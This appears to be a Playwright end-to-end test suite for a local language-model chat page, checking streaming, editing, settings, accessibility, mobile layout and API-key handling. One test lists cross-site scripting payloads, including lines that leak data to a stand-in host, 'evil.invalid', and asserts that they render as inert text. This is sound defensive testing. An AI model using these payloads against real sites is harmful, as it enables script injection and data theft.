// A person's way through the page, on the real binary with the real model.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import AxeBuilder from '@axe-core/playwright';
import { answerWith, ask, openPage, startBrowser, startServer } from './harness.mjs';

const FIRST_SCRIPT_LIMIT = 120 * 1024;
const LONG = 'Write a very long story about a whale. Describe every day of its life in great detail.';

let server;
let browser;
let context;
let page;

before(async () => {
  // One thread leaves a core to the browser: an answer is still there to be stopped when a click arrives.
  [server, browser] = await Promise.all([startServer('--threads', '1'), startBrowser()]);
});
after(async () => {
  await browser?.stop();
  await server?.stop();
});
afterEach(async () => {
  await context?.close();
  context = undefined;
});

// Short and the same on every run, so that a test waits for the page and not for the model's mood.
const SHORT = { temperature: 0, max_tokens: 48 };
const ENDLESS = { temperature: 0, max_tokens: 4000 };

async function newContext(options = {}, parameters = SHORT) {
  context = await browser.newContext(options);
  await context.addInitScript((kept) => localStorage.getItem('bowhead.settings') ?? localStorage.setItem('bowhead.settings', kept), JSON.stringify({ parameters }));
}

async function open(options, parameters, ...rest) {
  await newContext(options, parameters);
  page = await openPage(context, server.url, ...rest);
  return page;
}

async function assertAccessible(where) {
  const { violations } = await new AxeBuilder({ page }).analyze();
  const grave = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
  assert.deepEqual(grave.map(({ id, nodes }) => `${where}: ${id}: ${nodes.map((node) => node.html).join('\n')}`), []);
}

const lastAnswer = () => page.locator('article.answer').last();
const lastText = async () => (await lastAnswer().locator('.prose').last().innerText()).trim();

test('the first script is small, everything is cached right, and nothing comes from elsewhere', async () => {
  const html = await (await fetch(server.url)).text();
  const scripts = [...html.matchAll(/(?:src|href)="(\/[^"]+\.js)"/g)].map(([, path]) => path);
  assert.ok(scripts.length > 0);
  let total = 0;
  for (const path of scripts) {
    const answer = await fetch(server.url + path, { headers: { 'accept-encoding': 'gzip' } });
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get('content-encoding'), 'gzip', path);
    if (path.startsWith('/assets/')) assert.match(answer.headers.get('cache-control'), /immutable/);
    total += gzipSync(Buffer.from(await answer.arrayBuffer())).length;
  }
  assert.ok(total <= FIRST_SCRIPT_LIMIT, `${total} bytes gzipped`);

  const first = await fetch(server.url);
  assert.equal(first.headers.get('cache-control'), 'no-cache');
  const again = await fetch(server.url, { headers: { 'if-none-match': first.headers.get('etag') } });
  assert.equal(again.status, 304);
  const policy = first.headers.get('content-security-policy');
  assert.match(policy, /default-src 'none'/);
  assert.doesNotMatch(policy, /unsafe|https?:|\*/);
  assert.equal(first.headers.get('x-content-type-options'), 'nosniff');
});

test('a question is answered piece by piece, with its figures', async () => {
  await open({}, { temperature: 0, max_tokens: 1500 });
  // Watched from inside the page: a busy machine may see few of the steps from outside.
  await page.evaluate(() => {
    window.lengths = new Set();
    new MutationObserver(() => window.lengths.add([...document.querySelectorAll('article.answer')].at(-1)?.textContent.length))
      .observe(document.body, { childList: true, subtree: true, characterData: true });
  });
  await ask(page, LONG);
  const steps = await page.evaluate(() => window.lengths.size);
  assert.ok(steps >= 3, `the answer came in ${steps} steps`);
  assert.ok((await lastText()).length > 10);
  const figures = await page.locator('.figures').innerText();
  assert.match(figures, /[\d.,]+ tokens\/s/);
  assert.match(figures, /first token after [\d.,]+ m?s/);
  assert.match(figures, /[1-9]\d* tokens/);
  assert.match(await page.locator('.use').innerText(), /^[\d,]+ of 8,192 tokens used$/);
  assert.match(await page.getByRole('status').last().innerText(), /^Answer: /);
  page.check();
});

test('a conversation goes on: the model sees what was said before', async () => {
  await open();
  await ask(page, 'Name one animal.');
  const first = await lastText();
  const sent = page.waitForRequest('**/v1/chat/completions');
  await ask(page, 'What colour is it?');
  const { messages } = (await sent).postDataJSON();
  assert.deepEqual(messages.map(({ role }) => role), ['user', 'assistant', 'user']);
  assert.equal(messages[1].content.trim(), first);
  assert.notEqual(await lastText(), first);
  page.check();
});

test('stop ends the answer, keeps what came, and frees the server', async () => {
  await open({}, ENDLESS);
  await page.locator('#composer').fill(LONG);
  await page.locator('#composer').press('Enter');
  await page.waitForFunction(() => document.querySelector('article.answer .prose')?.textContent.length > 40);
  await page.getByRole('button', { name: 'Stop' }).click();
  await page.getByText('Stopped', { exact: true }).first().waitFor();
  const kept = await lastText();
  assert.ok(kept.length > 40);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'composer');
  await page.waitForTimeout(500);
  assert.equal(await lastText(), kept);
  const metrics = await (await fetch(`${server.url}/metrics`)).text();
  assert.match(metrics, /^bowhead_requests_running(?:\{[^}]*\})? 0$/m);
  page.check();
});

test('regenerate adds a version and keeps the first', async () => {
  await open();
  await ask(page, 'Name one animal.');
  const first = await lastText();
  await page.getByRole('button', { name: 'Regenerate' }).click();
  await page.getByRole('group', { name: 'Version 2 of 2' }).waitFor({ timeout: 120_000 });
  await page.getByRole('button', { name: 'Previous version' }).click();
  await page.getByRole('group', { name: 'Version 1 of 2' }).waitFor();
  assert.equal(await lastText(), first);
  assert.equal(await page.locator('article.said').count(), 1);
  page.check();
});

test('an edited message is sent again and replaces what followed', async () => {
  await open();
  await ask(page, 'Name one animal.');
  await ask(page, 'Name another one.');
  await page.locator('article.said').first().hover();
  await page.getByRole('button', { name: 'Edit message' }).first().click();
  await page.keyboard.press('Control+A');
  await page.keyboard.type('Name one colour.');
  const sent = page.waitForRequest('**/v1/chat/completions');
  await page.keyboard.press('Enter');
  assert.deepEqual((await sent).postDataJSON().messages, [{ role: 'user', content: 'Name one colour.' }]);
  await page.locator('.figures').waitFor({ timeout: 120_000 });
  assert.equal(await page.locator('article.said').count(), 1);
  assert.equal(await page.locator('article.said').innerText(), 'Name one colour.');
  page.check();
});

test('conversations outlive a reload and can be found, renamed, exported and deleted', async () => {
  await open({ acceptDownloads: true });
  await ask(page, 'Name one animal.');
  const answer = await lastText();
  await page.getByRole('button', { name: 'New chat', exact: true }).click();
  await ask(page, 'Name one colour.');
  await page.reload();
  await page.getByRole('button', { name: 'Name one animal.', exact: true }).click();
  await page.locator('article.said').getByText('Name one animal.').waitFor();
  assert.equal(await lastText(), answer);
  assert.match(page.url(), /#[0-9a-f]{24}$/);
  await page.reload();
  await page.locator('article.said').waitFor();
  assert.equal(await page.locator('article.said').innerText(), 'Name one animal.');

  const menu = (title) => page.getByRole('button', { name: `Actions for “${title}”` }).click();
  await menu('Name one animal.');
  await page.getByRole('menuitem', { name: 'Rename' }).click();
  await page.keyboard.type('Zoo');
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Zoo', exact: true }).waitFor();

  await menu('Zoo');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('menuitem', { name: 'Export as JSON' }).click()]);
  assert.equal(download.suggestedFilename(), 'Zoo.json');
  const exported = JSON.parse(readFileSync(await download.path(), 'utf8'));
  assert.equal(exported.conversations[0].messages[1].versions[0].content.trim().slice(0, 5), answer.slice(0, 5));

  await menu('Zoo');
  await page.getByRole('menuitem', { name: 'Delete' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await page.getByRole('button', { name: 'Zoo', exact: true }).waitFor({ state: 'detached' });
  await page.reload();
  await page.getByRole('button', { name: 'Name one colour.', exact: true }).waitFor();
  assert.equal(await page.getByRole('button', { name: 'Zoo', exact: true }).count(), 0);
  page.check();
});

test('system prompt and parameters reach the server, wrong ones do not', async () => {
  await open({}, {});
  await page.keyboard.press('Control+,');
  const dialog = page.getByRole('dialog', { name: 'Settings' });
  await dialog.getByLabel('System prompt').fill('Answer in capital letters.');
  await dialog.getByLabel('Temperature').fill('0');
  await dialog.getByLabel('Top-p').fill('0.9');
  await dialog.getByLabel('Top-k').fill('40');
  await dialog.getByLabel('Longest answer').fill('7');
  await dialog.getByLabel('Seed').fill('42');
  await dialog.getByLabel('Stop at').fill('###\n@@@');
  await dialog.getByLabel('Stop at').blur();
  await page.keyboard.press('Escape');
  const sent = page.waitForRequest('**/v1/chat/completions');
  await ask(page, LONG);
  const { model, messages, ...rest } = (await sent).postDataJSON();
  assert.ok(model);
  assert.deepEqual(messages[0], { role: 'system', content: 'Answer in capital letters.' });
  assert.deepEqual(rest, { stream: true, stream_options: { include_usage: true }, temperature: 0, top_p: 0.9, top_k: 40, max_tokens: 7, seed: 42, stop: ['###', '@@@'] });
  await page.getByText('The limit on the answer’s length was reached.').waitFor();
  assert.match(await page.locator('.figures').innerText(), /\b7 tokens/);

  await page.keyboard.press('Control+,');
  await dialog.getByLabel('Temperature').fill('9');
  await dialog.getByText('Between 0 and 2.').waitFor();
  assert.equal(await dialog.getByLabel('Temperature').getAttribute('aria-invalid'), 'true');
  page.check();
});

test('the model card shows what the server says', async () => {
  await open();
  const { data } = await (await fetch(`${server.url}/v1/models`)).json();
  await page.getByRole('button', { name: data[0].id.replace(/\.gguf$/, '') }).click();
  const card = page.locator('.card');
  const text = await card.innerText();
  const { bowhead } = data[0];
  for (const fact of [bowhead.quantization, bowhead.architecture, bowhead.isa, '135M', '8,192 tokens', '94 MiB']) {
    assert.ok(text.includes(fact), `${fact} is missing from ${text}`);
  }
  page.check();
});

test('the page speaks Chinese where the browser does, or the person wants it', async () => {
  await open({ locale: 'zh-CN' });
  assert.equal(await page.locator('html').getAttribute('lang'), 'zh-Hans');
  await page.getByRole('heading', { name: '有什么可以帮你？' }).waitFor();
  await assertAccessible('Chinese');
  await page.keyboard.press('Control+,');
  await page.getByLabel('语言').selectOption('en');
  await page.getByRole('heading', { name: 'What can I help with?', includeHidden: true }).waitFor();
  assert.equal(await page.locator('html').getAttribute('lang'), 'en');
  await page.reload();
  await page.getByRole('heading', { name: 'What can I help with?' }).waitFor();
  page.check();
});

test('light and dark follow the system, or the person', async () => {
  await open({ colorScheme: 'dark' });
  const brightness = () => page.evaluate(() => Number(getComputedStyle(document.documentElement).backgroundColor.match(/\d+/)[0]));
  assert.ok((await brightness()) < 60);
  await page.emulateMedia({ colorScheme: 'light' });
  assert.ok((await brightness()) > 200);
  await page.keyboard.press('Control+,');
  await page.getByLabel('Theme').selectOption('dark');
  assert.ok((await brightness()) < 60);
  await page.reload();
  assert.ok((await brightness()) < 60);
  page.check();
});

test('everything can be reached and done with the keyboard alone', async () => {
  await open({}, { temperature: 0, max_tokens: 3000 });
  const focused = () => page.evaluate(() => document.activeElement.getAttribute('aria-label') ?? (document.activeElement.innerText || document.activeElement.id));
  assert.equal(await page.evaluate(() => document.activeElement.id), 'composer');
  await page.evaluate(() => ((document.body.tabIndex = -1), document.body.focus()));
  await page.keyboard.press('Tab');
  assert.equal(await focused(), 'Skip to the message box');
  await page.keyboard.press('Enter');
  assert.equal(await focused(), 'composer');

  await page.keyboard.type('Name one animal.');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('Only its name.');
  await page.keyboard.press('Enter');
  await page.locator('.figures').waitFor({ timeout: 120_000 });
  assert.equal(await page.locator('article.said').innerText(), 'Name one animal.\nOnly its name.');
  assert.equal(await focused(), 'composer');

  await page.keyboard.press('ArrowUp'); // edits the last message
  assert.equal(await page.evaluate(() => document.activeElement.value), 'Name one animal.\nOnly its name.');
  await page.keyboard.press('Escape');
  assert.equal(await focused(), 'Edit message');

  await page.keyboard.press('Control+/');
  await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
  await page.keyboard.press('Escape');
  assert.equal(await focused(), 'Edit message');

  await page.keyboard.press('Shift+Escape');
  await page.keyboard.type(LONG);
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => [...document.querySelectorAll('article.answer')].at(-1).querySelector('.prose')?.textContent.length > 20);
  await page.keyboard.press('Escape');
  await page.getByText('Stopped', { exact: true }).first().waitFor();

  await page.keyboard.press('Control+Shift+O');
  await page.getByRole('heading', { name: 'What can I help with?' }).waitFor();
  await page.keyboard.press('Control+Shift+S');
  await page.getByRole('navigation').waitFor({ state: 'detached' });
  assert.equal(await focused(), 'Show conversations');
  await page.keyboard.press('Enter');
  await page.getByRole('navigation').waitFor();

  // The menu of a conversation: opened, walked and left by key.
  await page.getByRole('button', { name: /^Actions for/ }).focus();
  await page.keyboard.press('Enter');
  await page.getByRole('menuitem', { name: 'Rename' }).waitFor();
  await page.waitForFunction(() => document.activeElement.innerText === 'Rename');
  await page.keyboard.press('ArrowUp');
  assert.equal(await focused(), 'Delete');
  await page.keyboard.press('Enter');
  await page.getByRole('dialog').waitFor();
  await page.keyboard.press('Escape');
  assert.match(await focused(), /^Actions for/);
  page.check();
});

const PAYLOADS = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 2">',
  '<svg onload="window.hit = 3"><a xlink:href="javascript:window.hit=3">x</a></svg>',
  '[click](javascript:window.hit=4) [b](data:text/html,<script>window.hit=4</script>) <javascript:window.hit=4>',
  '![i](https://evil.invalid/leak?q=secret) ![j](javascript:window.hit=5)',
  '<iframe srcdoc="<script>parent.hit = 6</script>"></iframe><object data="javascript:window.hit=6"></object>',
  '<style>body { display: none }</style><link rel=stylesheet href=https://evil.invalid/x.css><base href=https://evil.invalid/>',
  '```html"onmouseover="window.hit=7\n<script>window.hit = 7</script>\n```',
  '| a | <img src=x onerror=window.hit=8> |\n| - | - |\n| `<b onclick=window.hit=8>` | &lt;script&gt;window.hit=8&lt;/script&gt; |',
  '<think><img src=x onerror="window.hit = 9"></think><form action=https://evil.invalid/><button>send</button></form>',
  '{@html "<img src=x onerror=window.hit=10>"} ${window.hit = 10} {{constructor.constructor("window.hit=10")()}}',
];

test('hostile text of the model and of the person stays text', async () => {
  await open();
  for (const payload of PAYLOADS) {
    await answerWith(page, payload);
    await ask(page, payload);
  }
  const found = await page.evaluate(() => {
    const text = document.querySelectorAll('article');
    const foreign = [...text].flatMap((article) => [...article.querySelectorAll('script, img, iframe, object, embed, form, link, base, style, [onerror], [onload], [onclick], [onmouseover], [srcdoc]')]);
    const links = [...document.querySelectorAll('article a')].map((link) => link.protocol);
    return { hit: window.hit ?? null, foreign: foreign.map((element) => element.outerHTML), links: [...new Set(links)] };
  });
  assert.deepEqual(found, { hit: null, foreign: [], links: ['https:'] });
  const text = await page.locator('.thread').innerText();
  for (const piece of ["<img src=x onerror=\"window.hit = 2\">", '<script>window.hit = 1</script>', '<iframe srcdoc=']) assert.ok(text.includes(piece), piece);
  await page.reload(); // as titles and from the store, too
  await page.locator('.thread').waitFor();
  assert.equal(await page.evaluate(() => window.hit ?? null), null);
  page.check();
});

test('Markdown is set as it should be, and its code can be copied', async () => {
  await open({ permissions: ['clipboard-read', 'clipboard-write'] });
  await answerWith(page, '<think>\nFirst *this*.\n</think>\n\n## Title\n\nSome **bold** text, see [docs](https://example.org/).\n\n- [x] done\n- [ ] open\n\n| n | v |\n| - | -: |\n| a | 1 |\n\n```python\ndef f(x):\n    return x < 2 and "<b>"\n```\n');
  await ask(page, 'Go');
  const answer = lastAnswer();
  assert.equal(await answer.locator('h4').innerText(), 'Title');
  assert.equal(await answer.locator('strong').innerText(), 'bold');
  assert.equal(await answer.locator('a').getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.equal(await answer.locator('input:checked').count(), 1);
  assert.equal(await answer.locator('td').last().innerText(), '1');
  assert.equal(await answer.locator('.hl-keyword').first().innerText(), 'def');
  await answer.locator('figure').getByRole('button', { name: 'Copy' }).click();
  await answer.getByRole('button', { name: 'Copied' }).waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'def f(x):\n    return x < 2 and "<b>"');
  const thoughts = answer.locator('details');
  assert.equal(await thoughts.evaluate((element) => element.open), false);
  await thoughts.locator('summary').click();
  assert.equal(await thoughts.locator('em').innerText(), 'this');
  const sent = page.waitForRequest('**/v1/chat/completions');
  await ask(page, 'On');
  assert.doesNotMatch((await sent).postDataJSON().messages[1].content, /think|First/);
  await assertAccessible('Markdown');
  page.check();
});

test('no serious accessibility violation, in light and dark, empty, answered and in the settings', async () => {
  for (const colorScheme of ['light', 'dark']) {
    await open({ colorScheme });
    await assertAccessible(`${colorScheme}, empty`);
    await ask(page, 'Name one animal.');
    await assertAccessible(`${colorScheme}, answered`);
    await page.keyboard.press('Control+,');
    await page.getByRole('dialog', { name: 'Settings' }).waitFor();
    await page.waitForTimeout(300);
    await assertAccessible(`${colorScheme}, settings`);
    page.check();
    await context.close();
  }
});

test('on a phone nothing sticks out, and the list of conversations is a drawer', async () => {
  await open({ viewport: { width: 360, height: 740 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
  const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  assert.equal(await overflow(), 0);
  await answerWith(page, `${'wide'.repeat(100)}\n\n\`\`\`\n${'code '.repeat(100)}\n\`\`\`\n\n| ${'column | '.repeat(12)}\n| ${'- | '.repeat(12)}\n| ${'cell | '.repeat(12)}\n`);
  await ask(page, 'wide'.repeat(100));
  assert.equal(await overflow(), 0);
  assert.ok((await page.locator('.thread').evaluate((element) => element.scrollWidth - element.clientWidth)) <= 0);
  await page.getByRole('button', { name: 'Show conversations' }).tap();
  await page.getByRole('navigation').waitFor();
  await assertAccessible('phone, drawer');
  await page.getByRole('navigation').getByRole('button', { name: 'New chat', exact: true }).tap();
  await page.getByRole('heading', { name: 'What can I help with?' }).waitFor();
  assert.equal(await page.getByRole('navigation').count(), 0);
  for (const button of await page.getByRole('button').all()) {
    const box = await button.boundingBox();
    assert.ok(!box || (box.width >= 24 && box.height >= 24), `a button of ${box?.width} × ${box?.height}`);
  }
  page.check();
});

test('a long answer does not make the page stutter', async () => {
  await open();
  const paragraph = 'A paragraph of the usual length with **bold**, `code` and a [link](https://example.org/).\n\n- one\n- two\n\n```js\nconst x = 1;\n```\n\n';
  // The real stream's pace, without its model: 10,000 tokens, a hundred at a time.
  await page.evaluate((text) => {
    const real = window.fetch;
    window.fetch = async (input, init) => {
      if (!String(input).endsWith('/v1/chat/completions')) return real(input, init);
      const encode = (chunk) => new TextEncoder().encode(`data: ${JSON.stringify(chunk)}\n\n`);
      const tokens = text.match(/[^]{1,4}/g);
      let at = 0;
      return new Response(new ReadableStream({
        async pull(controller) {
          await new Promise((wake) => setTimeout(wake, 8));
          for (const content of tokens.slice(at, at + 100)) controller.enqueue(encode({ choices: [{ index: 0, delta: { content } }] }));
          at += 100;
          if (at < tokens.length) return;
          controller.enqueue(encode({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }));
          controller.enqueue(encode({ choices: [], usage: { prompt_tokens: 1, completion_tokens: tokens.length, total_tokens: tokens.length + 1 } }));
          controller.close();
        },
      }), { headers: { 'content-type': 'text/event-stream' } });
    };
    window.longest = 0;
    new PerformanceObserver((list) => list.getEntries().forEach((entry) => (window.longest = Math.max(window.longest, entry.duration)))).observe({ entryTypes: ['longtask'] });
  }, paragraph.repeat(Math.ceil(40_000 / paragraph.length)));
  await ask(page, 'Go');
  assert.match(await page.locator('.figures').innerText(), /10,\d{3} tokens/);
  const longest = await page.evaluate(() => window.longest);
  // Parsing all of the answer for each piece takes ten times as long; less than this says little on a busy machine.
  assert.ok(longest < 2500, `one task took ${longest} ms`);
  const gap = await page.locator('.scroller').evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight);
  assert.ok(gap < 2, `${gap} pixels from the end`);
  page.check();
});

test('a server that is loading shows how far it is; one that is gone is waited for', async () => {
  await newContext();
  let progress = 0.25;
  await context.route('**/ready', (route) => (progress === null ? route.abort() : progress < 1
    ? route.fulfill({ status: 503, json: { status: 'loading', progress } }) : route.continue()));
  page = await openPage(context, server.url, '/', { ready: false });
  await page.getByText('The model is being loaded · 25 %').waitFor();
  assert.equal(await page.getByRole('progressbar').getAttribute('value'), '25');
  await page.locator('#composer').fill('Name one animal.');
  assert.ok(await page.getByRole('button', { name: 'Send' }).isDisabled());
  await assertAccessible('loading');
  progress = null;
  await page.getByText('The server does not answer').waitFor();
  progress = 1;
  await page.locator('.dot.ready').waitFor();
  await page.locator('#composer').press('Enter');
  await page.locator('.figures').waitFor({ timeout: 120_000 });
  page.check();
});

test('a lost connection keeps what came, says so, and the question can be tried again', async () => {
  await open();
  await page.route('**/v1/chat/completions', (route) => route.fulfill({ contentType: 'text/event-stream', body: 'data: {"choices":[{"index":0,"delta":{"content":"Half of an"}}]}\n\n' }));
  await ask(page, 'Name one animal.');
  await page.locator('.failure').getByText('The connection was lost.').waitFor();
  assert.equal(await lastText(), 'Half of an');
  await page.unroute('**/v1/chat/completions');
  await page.getByRole('button', { name: 'Try again' }).click();
  await page.getByRole('group', { name: 'Version 2 of 2' }).waitFor({ timeout: 120_000 });
  assert.notEqual(await lastText(), 'Half of an');
  page.check();
});

test('a conversation over the context is refused in words, and can go on anew', async () => {
  await open();
  await page.locator('#composer').fill(`${'whale '.repeat(9000)}`);
  await page.locator('#composer').press('Enter');
  await page.locator('.failure').getByText('This conversation is longer than the model can read.').waitFor();
  assert.match(await page.locator('.detail').innerText(), /8192/); // the server's words name both numbers
  await page.getByRole('button', { name: 'Ask in a new chat' }).waitFor();
  await page.getByRole('button', { name: 'New chat', exact: true }).click();
  await ask(page, 'Name one animal.');
  page.check();
});

test('a server with a key asks for it, and keeps it for the tab only', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'bowhead-key-'));
  const file = join(folder, 'keys');
  const key = 'test-key-0123456789abcdef0123456789';
  writeFileSync(file, `${key}\n`, { mode: 0o600 });
  const guarded = await startServer('--api-key-file', file);
  try {
    await newContext();
    page = await openPage(context, guarded.url, '/', { ready: false });
    const dialog = page.getByRole('dialog', { name: 'This server asks for a key' });
    await dialog.waitFor();
    await assertAccessible('key');
    await dialog.getByLabel('API key').fill('wrong');
    await page.keyboard.press('Enter');
    await dialog.getByText('The server did not accept this key.').waitFor();
    await dialog.getByLabel('API key').fill(key);
    await page.keyboard.press('Enter');
    await page.locator('.dot.ready').waitFor();
    await dialog.waitFor({ state: 'hidden' });
    await ask(page, 'Name one animal.');
    await page.reload();
    await page.locator('.dot.ready').waitFor();
    assert.equal(await page.evaluate(() => JSON.stringify(localStorage)).then((kept) => kept.includes(key)), false);
    const other = await openPage(context, guarded.url, '/', { ready: false });
    await other.getByRole('dialog', { name: 'This server asks for a key' }).waitFor();
    page.check();
  } finally {
    await guarded.stop();
    rmSync(folder, { recursive: true });
  }
});
